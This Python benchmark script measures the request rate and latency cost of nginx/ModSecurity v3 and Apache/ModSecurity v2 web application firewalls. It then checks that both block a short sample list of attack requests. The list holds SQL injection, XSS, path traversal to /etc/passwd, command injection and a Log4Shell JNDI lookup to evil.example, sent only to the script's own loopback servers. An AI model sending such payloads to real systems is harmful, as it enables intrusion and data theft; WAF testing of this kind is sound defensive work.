"""The firewall tier's engines, compared: which one to run, and what the WAF costs.

In front of one fixed-response upstream (nginx serving seat-map-shaped bytes), each over
TLS with 2 workers, wrk GETs /api/v1/flights/N/seats with 64 connections:

  (1) the upstream alone                        the ceiling
  (2) nginx TLS proxy, no WAF                   what TLS and proxying cost
  (3) nginx + ModSecurity v3 + CRS 3.3.4        lastseat's firewall tier, as generated
  (4) Apache httpd (event MPM) + ModSecurity v2 + the same CRS and exclusions

Then a sample of the attack set is sent to (3) and (4): both must block every one.
Writes var/bench/firewall.json and prints a table.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import httpx
from rich.console import Console
from rich.table import Table

from lastseat.config import Settings
from lastseat.stack import nginx
from lastseat.stack.ports import free_port, free_udp_and_tcp_port
from lastseat.stack.tls import ensure_certificates

sys.path.insert(0, str(Path(__file__).resolve().parent))
from run import Process, parse_wrk

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
console = Console(width=140)
APACHE_MODULES = Path("/usr/lib/apache2/modules")
ATTACK_SAMPLE = [
    "/api/v1/flights?origin=' OR 1=1--",
    "/api/v1/flights?q=<script>alert(1)</script>",
    "/api/v1/flights?file=../../../../etc/passwd",
    "/api/v1/flights?cmd=;cat /etc/passwd",
    "/api/v1/flights?q=${jndi:ldap://evil.example/a}",
]


def upstream_conf(folder: Path, port: int, body: bytes) -> Path:
    (folder / "html").mkdir(parents=True)
    (folder / "html" / "map.json").write_bytes(body)
    conf = folder / "nginx.conf"
    conf.write_text(
        f"""worker_processes 1;
pid {folder}/nginx.pid;
daemon off;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  keepalive_requests 100000;
  server {{
    listen 127.0.0.1:{port};
    default_type application/json;
    location / {{ root {folder}/html; rewrite ^ /map.json break; }}
  }}
}}
"""
    )
    return conf


def plain_proxy_conf(folder: Path, port: int, upstream: int, cert: Path, key: Path) -> Path:
    folder.mkdir(parents=True)
    conf = folder / "nginx.conf"
    conf.write_text(
        f"""worker_processes 2;
pid {folder}/nginx.pid;
daemon off;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  upstream up {{ server 127.0.0.1:{upstream}; keepalive 64; }}
  server {{
    listen 127.0.0.1:{port} ssl;
    ssl_certificate {cert};
    ssl_certificate_key {key};
    location / {{
      proxy_pass http://up;
      proxy_http_version 1.1;
      proxy_set_header Connection "";
    }}
  }}
}}
"""
    )
    return conf


def apache_conf(folder: Path, port: int, upstream: int, modsecurity: Path, cert: Path,
                key: Path) -> Path:  # fmt: skip
    conf = folder / "apache.conf"
    user = "User nobody\nGroup nogroup" if os.geteuid() == 0 else ""
    modules = [
        ("mpm_event_module", "mod_mpm_event.so"),
        ("authz_core_module", "mod_authz_core.so"),
        ("unique_id_module", "mod_unique_id.so"),
        ("security2_module", "mod_security2.so"),
        ("proxy_module", "mod_proxy.so"),
        ("proxy_http_module", "mod_proxy_http.so"),
        ("socache_shmcb_module", "mod_socache_shmcb.so"),
        ("ssl_module", "mod_ssl.so"),
    ]
    loads = "\n".join(f"LoadModule {name} {APACHE_MODULES / so}" for name, so in modules)
    conf.write_text(
        f"""ServerRoot {folder}
{loads}
{user}
PidFile {folder}/apache.pid
ErrorLog {folder}/error.log
LogLevel warn
ServerName lastseat.test
Listen 127.0.0.1:{port}
StartServers 2
ServerLimit 2
ThreadsPerChild 64
MaxRequestWorkers 128
MinSpareThreads 64
MaxSpareThreads 128
KeepAlive On
MaxKeepAliveRequests 0
SSLSessionCache shmcb:{folder}/ssl_cache(512000)
Include {modsecurity}
<VirtualHost 127.0.0.1:{port}>
  SSLEngine on
  SSLCertificateFile {cert}
  SSLCertificateKeyFile {key}
  ProxyPass / http://127.0.0.1:{upstream}/ keepalive=On
</VirtualHost>
"""
    )
    return conf


def wrk(url: str, seconds: int, connections: int) -> dict[str, float]:
    out = subprocess.run(
        ["wrk", "-t", "2", "-c", str(connections), "-d", f"{seconds}s", "--latency",
         "-H", "Host: lastseat.test", url],
        capture_output=True, text=True, check=True, timeout=seconds + 60,
    ).stdout  # fmt: skip
    return parse_wrk(out)


def wait_port(url: str) -> None:
    for _ in range(150):
        try:
            httpx.get(url, verify=False, timeout=1)  # noqa: S501 - loopback, our own CA
            return
        except httpx.HTTPError:
            time.sleep(0.1)
    raise RuntimeError(f"{url} did not answer")


async def blocked(url: str) -> list[int]:
    async with httpx.AsyncClient(verify=False, headers={"Host": "lastseat.test"}) as client:  # noqa: S501
        return [(await client.get(url + path)).status_code for path in ATTACK_SAMPLE]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=int, default=10)
    parser.add_argument("--connections", type=int, default=64)
    args = parser.parse_args()
    if shutil.which("apache2") is None or not (APACHE_MODULES / "mod_security2.so").exists():
        sys.exit("Apache httpd with mod_security2 is missing: apt-get install apache2 "
                 "libapache2-mod-security2")  # fmt: skip
    work = Path(tempfile.mkdtemp(prefix="firewall-bench-", dir=ROOT / "var"))
    work.chmod(0o755)
    processes: list[Process] = []
    results: dict[str, dict[str, float]] = {}
    try:
        body = json.dumps({"flight_id": 1, "seats": [
            {"seat": f"{r}{c}", "cabin": "economy", "status": "available",
             "price": {"amount": 12345, "currency": "EUR"}} for r in range(1, 31) for c in "ABCDEF"
        ]}).encode()  # fmt: skip
        upstream = free_port()
        processes.append(
            Process(
                nginx.nginx_command(upstream_conf(work / "upstream", upstream, body)),
                dict(os.environ),
                work / "upstream.log",
            )
        )
        wait_port(f"http://127.0.0.1:{upstream}/")
        certs = ensure_certificates(work / "tls", "lastseat.test")
        path = "/api/v1/flights/7/seats"

        console.print("(1) the upstream alone")
        results["upstream"] = wrk(
            f"http://127.0.0.1:{upstream}{path}", args.seconds, args.connections
        )

        plain = free_port()
        conf = plain_proxy_conf(work / "plain", plain, upstream, certs.cert, certs.key)
        processes.append(Process(nginx.nginx_command(conf), dict(os.environ), work / "plain.log"))
        wait_port(f"https://127.0.0.1:{plain}/")
        console.print("(2) nginx TLS proxy, no WAF")
        results["nginx_tls_proxy"] = wrk(
            f"https://127.0.0.1:{plain}{path}", args.seconds, args.connections
        )

        v3 = free_port()
        settings = Settings(
            _env_file=None,
            stack_dir=work / "v3", https_port=v3, http_port=free_port(), proxy_port=upstream,
            proxy_grpc_port=free_port(), doh_port=free_port(), nginx_workers=2,
            rate_limit_per_second=1_000_000, rate_limit_burst=1_000_000,
            connections_per_address=60_000,
        )  # fmt: skip
        # (its log lines go to a port no log tier listens on: sent, not written)
        conf = nginx.write_firewall(settings, certs, free_udp_and_tcp_port())
        processes.append(Process(nginx.nginx_command(conf), dict(os.environ), work / "v3.log"))
        wait_port(f"https://127.0.0.1:{v3}/")
        console.print("(3) nginx + ModSecurity v3 + CRS")
        results["nginx_modsecurity_v3"] = wrk(
            f"https://127.0.0.1:{v3}{path}", args.seconds, args.connections
        )
        v3_blocks = asyncio.run(blocked(f"https://127.0.0.1:{v3}"))

        v2 = free_port()
        (work / "apache").mkdir()
        rules = work / "v3" / "firewall" / "modsecurity.conf"  # the very same as (3)
        apache = apache_conf(work / "apache", v2, upstream, rules, certs.cert, certs.key)
        processes.append(
            Process(
                ["apache2", "-f", str(apache), "-DFOREGROUND"],
                dict(os.environ),
                work / "apache.log",
            )
        )
        wait_port(f"https://127.0.0.1:{v2}/")
        console.print("(4) Apache httpd + ModSecurity v2 + CRS")
        results["apache_modsecurity_v2"] = wrk(
            f"https://127.0.0.1:{v2}{path}", args.seconds, args.connections
        )
        v2_blocks = asyncio.run(blocked(f"https://127.0.0.1:{v2}"))
    finally:
        for process in reversed(processes):
            process.stop()
        shutil.rmtree(work, ignore_errors=True)
    table = Table(title="firewall tier engines (seat-map-shaped GET over TLS, 2 workers)")
    for column in ("tier", "req/s", "p50 ms", "p99 ms", "ratio to upstream", "attacks blocked"):
        table.add_column(column)
    ceiling = results["upstream"]["requests_per_s"]
    blocks = {"nginx_modsecurity_v3": v3_blocks, "apache_modsecurity_v2": v2_blocks}
    for name, stats in results.items():
        codes = blocks.get(name)
        table.add_row(
            name, f"{stats['requests_per_s']:.0f}", f"{stats.get('p50_ms', 0):.1f}",
            f"{stats.get('p99_ms', 0):.1f}", f"{stats['requests_per_s'] / ceiling:.3f}",
            "" if codes is None else f"{sum(c == 403 for c in codes)}/{len(codes)}",
        )  # fmt: skip
    console.print(table)
    out = ROOT / "var" / "bench"
    out.mkdir(parents=True, exist_ok=True)
    (out / "firewall.json").write_text(
        json.dumps({"results": results, "blocked": blocks}, indent=2)
    )
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
